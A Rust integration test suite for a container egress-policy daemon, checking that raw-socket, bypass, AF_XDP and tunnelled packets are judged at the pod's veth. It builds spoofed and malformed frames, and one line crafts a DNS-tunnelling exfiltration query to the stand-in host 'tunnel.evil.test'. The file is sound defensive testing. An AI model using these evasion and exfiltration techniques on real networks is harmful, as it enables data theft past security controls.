//! P1: what a container sends below its sockets is judged at the host side of its veth.

use std::io::Read as _;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::Duration;

use egress_tests::attacker::{as_container, forged, frame, send_by_xdp, send_bypassing, tap, tun_device};
use egress_tests::model::wire::dns_query;
use egress_tests::probe::{V4, attempt, ipv4, send_frame, tcp, udp};
use egress_tests::skip::{bpf_lsm, skip};
use egress_tests::world::{DNS_V4, POD_V4, POD_VETH};
use egress_tests::{Daemon, Governed, NetNs, Place};
use nix::fcntl::{FcntlArg, OFlag, fcntl};

use crate::{POLICY, world};

const ALLOWED: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 10);
const DENIED: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 77);

#[derive(Clone, Copy, Debug)]
enum Way {
    Packet,
    Bypass,
    Xdp,
}

/// BPF LSM refuses a governed process all but the first, which `tests/tests/lsm.rs` tries.
fn ways(test: &str) -> &'static [Way] {
    if !bpf_lsm() {
        return &[Way::Packet, Way::Bypass, Way::Xdp];
    }
    skip(test, "PACKET_QDISC_BYPASS and AF_XDP: BPF LSM is on here, and refuses them");
    &[Way::Packet]
}

/// Sends `packet` from the pod to its gateway, as root of a container may.
fn send(test: &Governed, place: &Place, way: Way, packet: &[u8]) {
    let gateway = test.world.node_ns.mac(POD_VETH).unwrap();
    let own = test.world.pod_ns.as_ref().unwrap().mac("eth0").unwrap();
    let sent = attempt(place, || {
        as_container().map_err(std::io::Error::other)?;
        let whole = frame(own, gateway, packet);
        match way {
            Way::Packet => send_frame("eth0", gateway, packet)?,
            Way::Bypass => send_bypassing("eth0", &whole)?,
            Way::Xdp => send_by_xdp("eth0", &whole)?,
        }
        Ok(true)
    });
    let sent = sent.unwrap();
    assert!(sent.echoed, "{way:?}: {sent:?}");
}

fn udp_packet(to: Ipv4Addr, port: u16, payload: &[u8]) -> Vec<u8> {
    forged(SocketAddrV4::new(POD_V4.parse().unwrap(), 40_000), SocketAddrV4::new(to, port), payload)
}

/// P1, P5: AF_PACKET, with and without PACKET_QDISC_BYPASS, and AF_XDP, from a container with Docker's capabilities.
#[test]
fn what_goes_round_a_containers_sockets_is_judged_at_its_veth() {
    let test = Governed::over(world(), POLICY).unwrap();
    let pod = test.world.pod().in_cgroup(&test.cgroup);
    for &way in ways("what_goes_round_a_containers_sockets_is_judged_at_its_veth") {
        test.world.sniffer.clear();
        send(&test, &pod, way, &udp_packet(ALLOWED, 7000, b"allowed"));
        let seen = test.world.sniffer.wait_for(Duration::from_secs(1), |frame| frame.payload == b"allowed");
        assert!(seen.is_some(), "{way:?}: what a rule allows did not arrive");
        let before = counter(&test, "no-rule");
        let payload = format!("{way:?} says").into_bytes();
        send(&test, &pod, way, &udp_packet(DENIED, 7000, &payload));
        test.world.sniffer.assert_none("a denied packet", |frame| frame.destination == Some(DENIED.into()));
        assert_eq!(counter(&test, "no-rule"), before + 1, "{way:?}: counted once");
        let tunnel = dns_query("mfrggzdfmztwq2lk.tunnel.evil.test");
        send(&test, &pod, way, &udp_packet(DNS_V4.parse().unwrap(), 53, &tunnel));
    }
    assert!(test.world.dns.asked().iter().all(|asked| !asked.name.contains("evil")), "P5: a tunnel's query left");
    for reason in ["no-rule", "name-not-allowed"] {
        let told = test.event(|event| event["hook"] == "workload-ingress" && event["reason"] == reason).unwrap();
        let told = told.unwrap_or_else(|| panic!("no {reason} event: {:?}", test.daemon.events(true)));
        assert_eq!(told["interface"], POD_VETH);
        assert_eq!(told["cgroup_id"], test.cgroup.id().unwrap(), "whose socket it was");
    }
    let uplink = test.event(|event| event["hook"] == "uplink-egress" && event["destination"] == DENIED.to_string());
    assert!(uplink.unwrap().is_none(), "it came as far as the uplink");
}

/// P1: a tunnel of the node's, here a tap, is no uplink: what leaves by it is judged at the veth or nowhere. Nor does it pass because it
/// does not parse, or because the pod's kernel wrote it, in answer to a packet in the name of whom it is to reach.
#[test]
fn what_a_tunnel_would_take_is_judged_at_the_veth() {
    let test = Governed::over(world(), POLICY).unwrap();
    let device = tun_device().unwrap();
    let mut tunnel = test.world.node_ns.run(|| tap(&device, "out0")).unwrap();
    fcntl(&tunnel, FcntlArg::F_SETFL(OFlag::O_NONBLOCK)).unwrap();
    let route = format!(
        "link set out0 up\naddr add 198.18.9.10/24 dev out0\nneigh add 198.18.9.1 lladdr 02:00:00:00:00:09 dev out0\n\
         route add {DENIED} via 198.18.9.1"
    );
    test.world.node_ns.ip(&route).unwrap();
    let mut arrived = |what: &str| {
        std::thread::sleep(Duration::from_millis(100));
        let (mut frame, mut found) = ([0; 2048], false);
        while let Ok(length) = tunnel.read(&mut frame) {
            found |= frame[..length].windows(what.len()).any(|bytes| bytes == what.as_bytes());
        }
        found
    };
    let beside = test.world.pod();
    assert!(udp(&beside, &format!("{DENIED}:7000"), 5).is_ok());
    assert!(arrived("ZZZZZ"), "the tunnel takes what a socket that is not governed sends");

    let pod = test.world.pod().in_cgroup(&test.cgroup);
    let own: Ipv4Addr = POD_V4.parse().unwrap();
    let mut passed = Vec::new();
    send(&test, &pod, Way::Packet, &udp_packet(DENIED, 7000, b"denied"));
    passed.extend(arrived("denied").then_some("a denied packet"));
    // A TCP header that says it is shorter than any.
    let segment =
        [&[0x9c, 0x40, 0x1b, 0x58, 0, 0, 0, 1, 0, 0, 0, 1, 0, 0x10, 0xff, 0xff, 0, 0, 0, 0][..], b"cut"].concat();
    let header = V4 { protocol: libc::IPPROTO_TCP as u8, ..V4::default() };
    send(&test, &pod, Way::Packet, &ipv4(own, DENIED, &header, &segment));
    passed.extend(arrived("cut").then_some("what does not parse"));
    let asks = forged(SocketAddrV4::new(DENIED, 7000), SocketAddrV4::new(own, 9), b"quoted");
    let closed = attempt(&pod, || {
        as_container().map_err(std::io::Error::other)?;
        send_frame("lo", [0; 6], &asks)?;
        Ok(true)
    });
    assert!(closed.as_ref().is_ok_and(|sent| sent.echoed), "{closed:?}");
    passed.extend(arrived("quoted").then_some("an error of the pod's kernel"));
    assert_eq!(passed, [""; 0]);
    for reason in ["malformed", "no-rule"] {
        let told = test.event(|event| event["hook"] == "workload-ingress" && event["reason"] == reason).unwrap();
        assert!(told.is_some(), "no {reason} event: {:?}", test.daemon.events(true));
    }
}

fn counter(test: &Governed, reason: &str) -> u64 {
    let status = test.daemon.status().unwrap();
    let counters = status["counters"].as_array().unwrap();
    counters.iter().find(|counter| counter["reason"] == reason).map_or(0, |found| found["packets"].as_u64().unwrap())
}

/// Section 1: what stays on the node is nobody's business: another pod and the node itself are reached by every way.
#[test]
fn what_stays_on_the_node_passes() {
    let test = Governed::over(world(), POLICY).unwrap();
    let pod = test.world.pod().in_cgroup(&test.cgroup);
    let other = NetNs::new("pod2").unwrap();
    test.world.node_ns.veth("vpod1", &["10.244.1.1/24"], &other, "eth0", &["10.244.1.2/24"]).unwrap();
    other.ip("route add default via 10.244.1.1").unwrap();
    test.status_until(|status| attached(status).contains(&"vpod1".to_owned())).unwrap();
    let there = egress_tests::Sniffer::new(&other).unwrap();
    for &way in ways("what_stays_on_the_node_passes") {
        send(&test, &pod, way, &udp_packet("10.244.1.2".parse().unwrap(), 9, format!("{way:?}").as_bytes()));
        let seen = there.wait_for(Duration::from_secs(1), |frame| frame.payload == format!("{way:?}").as_bytes());
        assert!(seen.is_some(), "{way:?}: a packet to another pod was lost");
    }
    // A packet from outside is answered by a pod, by its kernel and by its processes.
    let ping = test.world.outside().run("ping", &["-c1", "-W1", POD_V4], Duration::from_secs(3)).unwrap();
    assert!(ping.ok(), "{ping:?}");
    let unanswered = tcp(&test.world.outside(), &format!("{POD_V4}:7001")).unwrap();
    assert_eq!(unanswered.errno, Some(libc::ECONNREFUSED), "a closed port of a pod is told: {unanswered:?}");
    assert!(udp(&pod, "203.0.113.10:9", 5).unwrap().errno.is_some(), "the cgroup still judges the pod's own sockets");
}

fn attached(status: &serde_json::Value) -> Vec<String> {
    let points = status["attach_points"].as_array().unwrap();
    let veths = points.iter().filter(|point| point["hook"] == "workload_ingress" && point["present"] == true);
    veths.map(|point| point["target"].as_str().unwrap().to_owned()).collect()
}

/// P2: a veth is governed when it comes and let go when it ends; a restart and a kill leave it governed; detach ends it.
#[test]
fn veths_are_followed_kept_and_detached() {
    let mut test = Governed::over(world(), POLICY).unwrap();
    assert_eq!(attached(&test.daemon.status().unwrap()), [POD_VETH], "the uplink's veth is none of them");
    let link = |test: &Governed| {
        let status = test.daemon.status().unwrap();
        let points = status["attach_points"].as_array().unwrap().clone();
        points.into_iter().find(|point| point["target"] == POD_VETH).unwrap()["link_id"].clone()
    };
    let before = link(&test);
    let other = NetNs::new("pod2").unwrap();
    test.world.node_ns.veth("vpod1", &[], &other, "eth0", &[]).unwrap();
    test.world.node_ns.ip("link add vhere type veth peer name vthere").unwrap();
    test.status_until(|status| attached(status) == [POD_VETH, "vpod1"]).unwrap();
    test.world.node_ns.ip("link del vpod1").unwrap();
    // Until the daemon hears that it is gone, it tells of a program that is not where it was.
    test.status_until(|status| attached(status) == [POD_VETH] && status["health"]["healthy"] == true).unwrap();

    let pod = test.world.pod().in_cgroup(&test.cgroup);
    test.daemon.kill().unwrap();
    send(&test, &pod, Way::Packet, &udp_packet(DENIED, 7000, b"while it is down"));
    test.restart().unwrap();
    assert_eq!(link(&test), before, "the pinned link was taken up");
    send(&test, &pod, Way::Packet, &udp_packet(DENIED, 7000, b"afterwards"));
    test.world.sniffer.assert_none("a denied packet", |frame| frame.destination == Some(DENIED.into()));
    let detached = test.daemon.detach().unwrap();
    assert!(detached.stdout.contains("workload_ingress"), "{detached:?}");
    send(&test, &pod, Way::Packet, &udp_packet(DENIED, 7000, b"free"));
    assert!(test.world.sniffer.wait_for(Duration::from_secs(1), |frame| frame.payload == b"free").is_some());
}

/// `--interface none` touches no interface, and lets go of what an earlier daemon attached.
#[test]
fn without_interfaces_no_veth_is_touched() {
    let mut test = Governed::over(world(), POLICY).unwrap();
    assert_eq!(attached(&test.daemon.status().unwrap()), [POD_VETH]);
    test.daemon.stop().unwrap();
    let builder = Daemon::builder(&test.world);
    let file = builder.policy_file(0);
    let daemon = builder.policy(file).cgroup(&test.cgroup).interfaces(&[]).start().unwrap();
    assert_eq!(attached(&daemon.status().unwrap()), [""; 0]);
}
